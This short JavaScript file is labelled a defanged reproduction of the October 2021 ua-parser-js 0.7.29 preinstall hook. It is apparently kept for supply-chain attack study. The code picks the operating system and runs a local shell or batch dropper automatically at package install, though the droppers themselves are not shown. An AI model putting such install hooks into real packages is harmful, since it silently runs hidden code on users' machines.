// DEFANGED reproduction of the ua-parser-js 0.7.29 preinstall (October 2021): pick the
// platform's payload and hand over to the shell dropper on Linux.
'use strict';
const { exec } = require('child_process');
const os = require('os');
if (os.type() === 'Linux') {
  exec('/bin/bash preinstall.sh', { cwd: __dirname });
} else if (os.type() === 'Windows_NT') {
  exec('preinstall.bat', { cwd: __dirname });
}
